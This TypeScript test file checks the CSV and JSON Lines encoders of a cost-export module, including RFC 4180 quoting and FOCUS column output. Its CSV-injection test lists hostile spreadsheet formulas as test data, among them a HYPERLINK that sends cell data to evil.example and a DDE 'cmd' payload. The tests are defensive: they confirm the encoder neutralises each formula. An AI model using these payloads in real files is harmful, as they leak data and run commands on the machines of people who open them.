import { test } from 'node:test';
import assert from 'node:assert/strict';
import type { ExportRow } from './cost.repository.js';
import { csvEncoder, csvField, csvTextField, jsonLinesEncoder } from './export-encoders.js';
import { exportColumns } from './focus-columns.js';

const row: ExportRow = {
  id: '1', start_us: '0', charge_period_start: '2026-01-01T10:00:00Z', charge_period_end: '2026-01-01T10:00:02Z',
  billing_period_start: '2026-01-01T00:00:00Z', billing_period_end: '2026-02-01T00:00:00Z', session_id: 'ses_1', user_id: 'u, "quoted"',
  agent_id: 'agt_1', agent_name: 'triage', provider: 'agentcore', principal_id: null, unit: 'vcpu-hour', consumed_quantity: '0.123',
  pricing_quantity: '0.000034166667', unit_price: '0.0895', cost: '0.0000030579166965', cost_basis: 'estimated', price_book_version: 1, source: 'turn', charge_class: null,
};
const context = { tenantId: 'ten_1', tenantName: 'acme' };

test('CSV quotes fields with commas, quotes or line breaks (RFC 4180)', () => {
  assert.equal(csvField('plain'), 'plain');
  assert.equal(csvField('a,b'), '"a,b"');
  assert.equal(csvField('say "hi"'), '"say ""hi"""');
  assert.equal(csvField('two\nlines'), '"two\nlines"');
});

test('CSV text cells never start like a formula (OWASP CSV injection)', () => {
  const cases: Array<[string, string]> = [
    ['=HYPERLINK("http://evil.example/?d="&A1,"refund")', `"'=HYPERLINK(""http://evil.example/?d=""&A1,""refund"")"`],
    ['+1+1', `"'+1+1"`],
    ['-2+3', `"'-2+3"`],
    ['@SUM(1,1)', `"'@SUM(1,1)"`],
    ["=cmd|' /C calc'!A0", `"'=cmd|' /C calc'!A0"`],
    ['\t=1+1', `"'\t=1+1"`],
    ['\r=1+1', `"'\r=1+1"`],
    ['\uff1d1+1', `"'\uff1d1+1"`],
    // A reader that splits on a locale's separator (;) or on tabs must not find a cell starting at "=".
    ['alice;=1+1', '"alice;=1+1"'],
    ['alice', 'alice'],
    ["o'brien", "o'brien"],
  ];
  for (const [value, expected] of cases) assert.equal(csvTextField(value), expected, JSON.stringify(value));
});

test('CSV exports neutralise text cells but keep the sign of decimals', () => {
  const hostile: ExportRow = { ...row, user_id: '=1+1', cost: '-0.5' };
  const focusLine = csvEncoder(exportColumns('focus-csv', '1.2')).rows([hostile], context);
  assert.ok(focusLine.includes(`,"'=1+1",`), focusLine);
  assert.ok(!/(^|,)[=+\-@]/.test(focusLine.replace(/,-0\.5(?=,)/g, ',0')), 'no unquoted cell starts like a formula');
  assert.ok(focusLine.includes(',-0.5,'), 'a negative amount stays a number');
  const plainLine = csvEncoder(exportColumns('csv', '1.2')).rows([hostile], context);
  assert.ok(plainLine.includes(`,"'=1+1",`), plainLine);
  // JSON Lines are not opened as spreadsheets: they carry the value as given.
  assert.equal(JSON.parse(jsonLinesEncoder(exportColumns('focus-jsonl', '1.2')).rows([hostile], context)).x_UserId, '=1+1');
});

test('FOCUS CSV: header then rows, custom columns last, nulls empty', () => {
  const encoder = csvEncoder(exportColumns('focus-csv', '1.2'));
  const header = encoder.header().trimEnd().split(',');
  assert.equal(header[0], 'BillingAccountId');
  assert.ok(header.indexOf('x_TenantId') > header.indexOf('Tags'));
  assert.ok(!header.includes('ServiceProviderName'), '1.2 has no 1.3 columns');
  const line = encoder.rows([row], context);
  assert.ok(line.includes(',"u, ""quoted""",'));
  assert.ok(line.endsWith('\r\n'));
});

test('FOCUS JSON Lines carry decimals as exact strings and key-value columns as serialized JSON objects', () => {
  const line = jsonLinesEncoder(exportColumns('focus-jsonl', '1.3')).rows([row], context);
  assert.ok(line.includes('"BilledCost":"0.0000030579166965",'));
  const parsed = JSON.parse(line);
  assert.equal(typeof parsed.Tags, 'string', 'KeyValueFormat is a serialized JSON string');
  assert.deepEqual(JSON.parse(parsed.Tags), {
    'switchboard/tenant': 'ten_1', 'switchboard/user': 'u, "quoted"', 'switchboard/agent': 'agt_1', 'switchboard/provider': 'agentcore', 'switchboard/session': 'ses_1',
  });
  assert.deepEqual(JSON.parse(parsed.SkuPriceDetails), { x_ChargeType: 'vcpu-hour', x_PricingUnit: 'vCPU-Hours', x_UnitPriceUsd: '0.0895', x_PriceBookVersion: '1' });
  assert.equal(parsed.ResourceName, 'triage session for u, "quoted"');
  assert.equal(parsed.SkuMeter, 'vCPU Hours');
  assert.equal(parsed.ServiceProviderName, 'Amazon Web Services');
  assert.equal(parsed.HostProviderName, 'Amazon Web Services');
  assert.equal(parsed.x_PrincipalId, null);
});
